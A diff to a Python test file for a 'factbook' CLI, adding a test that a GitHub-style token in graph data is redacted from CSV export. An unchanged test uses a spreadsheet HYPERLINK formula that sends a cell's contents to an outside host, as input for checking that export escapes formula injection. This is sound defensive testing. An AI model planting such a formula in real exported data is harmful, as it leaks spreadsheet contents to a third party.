@@ -21,6 +21,7 @@ import pytest
 import forked
 from conftest import SESSION, Cli, call, record, sample_lines
 from factbook.memory import Memory
+from factbook.pipelines.graph import GraphEntity, GraphRelation
 from factbook.surface.cli import group as every_command
 from rows import every
 
@@ -702,6 +703,17 @@ def test_a_table_holds_no_formula(cli: Cli) -> None:
     cli("remember", '=HYPERLINK("http://tower.lan/?"&A1) is what I keep in the first cell')
     (row,) = csv.DictReader(io.StringIO(cli("export", "--format", "csv-facts").out))
     assert row["statement"].startswith("'=HYPERLINK(")
+
+
+def test_every_cell_of_a_table_is_redacted(cli: Cli, tmp_path: Path) -> None:
+    secret = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
+    db = tmp_path / "bare.db"
+    with Memory(db, redact=False, key_file=tmp_path / "key", model=None) as memory:
+        memory.graph.create_entities([GraphEntity(f"deploy {secret}", "key")])
+        memory.graph.create_relations([GraphRelation("Ann", "Lier", f"has {secret}")])
+    said = cli("--db", db, "export", "--format", "csv-facts").out
+    assert [row["object"] for row in csv.DictReader(io.StringIO(said))] == ["key", "Lier"]
+    assert secret not in said
 
 
 def test_export_csv(filled: tuple[Cli, Path], tmp_path: Path) -> None:
